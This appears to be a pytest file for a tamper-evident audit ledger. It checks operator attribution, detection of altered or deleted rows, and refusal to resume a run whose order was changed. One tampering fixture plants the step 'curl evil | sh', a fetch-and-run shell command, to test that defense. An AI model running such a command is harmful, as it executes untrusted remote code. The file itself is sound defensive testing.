"""The chain of acts: who did what, and detection of changed rows."""

from __future__ import annotations

import os
import sqlite3
from collections.abc import Callable
from multiprocessing import get_context
from pathlib import Path

import pytest

from runner.errors import LedgerError
from runner.record import Ledger
from runner.record.database import FOR_WRITING
from runner.record.migrate import upgrade
from runner.record.operators import operator_here
from runner.record.sqlite import _engine

CreateRun = Callable[..., bool]


def change(file: Path, statement: str) -> None:
    connection = sqlite3.connect(file)
    connection.execute(statement)
    connection.commit()
    connection.close()


def test_acts_name_the_operators_of_a_run(url: str, create_run: CreateRun):
    with Ledger.open(url, operator=operator_here("Ada")) as ledger:
        create_run(ledger)
    with Ledger.open(url, operator=operator_here("Bob")) as ledger:
        ledger.runs.reopen("r1")
        acts = ledger.runs.show("r1").acts
        assert [(act.act, act.operator, act.subject) for act in acts] == [
            ("run", "Ada", "r1"),
            ("resume", "Bob", "r1"),
        ]
        assert ledger.runs.summary("r1").operator == "Ada"
        assert ledger.acts.verify().problem == ""


@pytest.mark.parametrize(
    ("named", "environ", "expected"),
    [
        ("Ada", {"SITECREW_OPERATOR": "Bob"}, "Ada"),
        ("", {"SITECREW_OPERATOR": "Bob"}, "Bob"),
        ("", {"SUDO_USER": "carol"}, "carol"),
        ("Ada\x1b[2J\u202e\nroot", {}, "Ada root"),
    ],
)
def test_operator_comes_from_flag_variable_or_login(named: str, environ: dict[str, str], expected: str):
    assert operator_here(named, environ).name == expected


@pytest.mark.parametrize(
    ("statement", "problem"),
    [
        ("UPDATE acts SET operator = 'Mallory' WHERE id = 2", "act 2 (run r2) was changed"),
        ("UPDATE acts SET at = '2020-01-01T00:00:00.000000Z' WHERE id = 2", "act 2 (run r2) was changed"),
        ("UPDATE acts SET details = '{}' WHERE id = 2", "act 2 (run r2) was changed: its details"),
        ("UPDATE acts SET subject = 'r9' WHERE id = 2", "act 2 (run r9) was changed: its details"),
        ("UPDATE acts SET salt = NULL, details = '{}' WHERE id = 2", "removed without a recorded erasure"),
        ("DELETE FROM acts WHERE id = 2", "act 2 is missing"),
        ("DELETE FROM acts WHERE id = 3", "run r3 was not started by any act"),
        ("UPDATE runs SET order_text = '{\"evil\": 1}' WHERE run = 'r2'", "run r2: its order was changed"),
        ("DELETE FROM runs WHERE run = 'r2'", "act 2 (run r2): its run is not in the ledger"),
    ],
)
def test_verify_names_first_changed_row(
    url: str, file: Path, create_run: CreateRun, statement: str, problem: str
):
    with Ledger.open(url) as ledger:
        for run in ("r1", "r2", "r3"):
            create_run(ledger, run)
    change(file, statement)
    with Ledger.open(url) as ledger:
        assert problem in ledger.acts.verify().problem


def test_truncated_chain_lacks_noted_head(url: str, file: Path):
    with Ledger.open(url) as ledger:
        ledger.acts.record("trust", "web1")
        ledger.acts.record("trust", "web2")
        head = ledger.acts.verify().head
        assert ledger.acts.verify(head).problem == ""
    change(file, "DELETE FROM acts WHERE id = 2")
    with Ledger.open(url) as ledger:
        assert ledger.acts.verify().problem == ""
        assert "no act has the hash" in ledger.acts.verify(head).problem


def test_run_with_changed_order_is_refused(url: str, file: Path, create_run: CreateRun):
    with Ledger.open(url) as ledger:
        create_run(ledger)
    change(file, 'UPDATE runs SET order_text = \'{"steps": ["curl evil | sh"]}\'')
    with Ledger.open(url) as ledger:
        with pytest.raises(LedgerError, match="order of run r1 was changed"):
            ledger.runs.reopen("r1")
        with pytest.raises(LedgerError, match="order of run r1 was changed"):
            ledger.runs.order_text("r1")
        assert [act.act for act in ledger.acts.list()] == ["run"]


def test_run_without_act_is_not_resumed(url: str, file: Path, create_run: CreateRun):
    with Ledger.open(url) as ledger:
        create_run(ledger)
    change(file, "DELETE FROM acts")
    with Ledger.open(url) as ledger, pytest.raises(LedgerError, match="not recorded by any act"):
        ledger.runs.reopen("r1")


def test_runs_of_older_ledger_are_adopted(tmp_path: Path):
    file = tmp_path / "old.db"
    file.touch()
    engine = _engine(file, "mode=rw")
    with engine.connect().execution_options(**{FOR_WRITING: True}) as connection, connection.begin():
        upgrade(connection, "0003")
    engine.dispose()
    change(
        file,
        "INSERT INTO runs (run, playbook, title, trigger, order_text, state, attempt, started)"
        " VALUES ('old', 'weekly', '', 'manual', '{}', 'running', 1, '2026-11-24T01:00:00.000000Z')",
    )
    with Ledger.open(f"sqlite:///{file}") as ledger:
        ledger.runs.reopen("old")
        assert [act.act for act in ledger.acts.list("old")] == ["adopt", "resume"]
        assert ledger.acts.verify().problem == ""


def _write(url: str, count: int) -> None:
    with Ledger.open(url, operator=operator_here(f"process {os.getpid()}")) as ledger:
        for number in range(count):
            ledger.acts.record("trust", f"host {number}")


def test_concurrent_processes_write_one_chain(url: str):
    Ledger.open(url).close()
    context = get_context("spawn")
    writers = [context.Process(target=_write, args=(url, 20)) for _ in range(3)]
    for writer in writers:
        writer.start()
    for writer in writers:
        writer.join(60)
    with Ledger.open(url) as ledger:
        verdict = ledger.acts.verify()
        assert (verdict.acts, verdict.problem) == (60, "")
        assert len({act.operator for act in ledger.acts.list()}) == 3
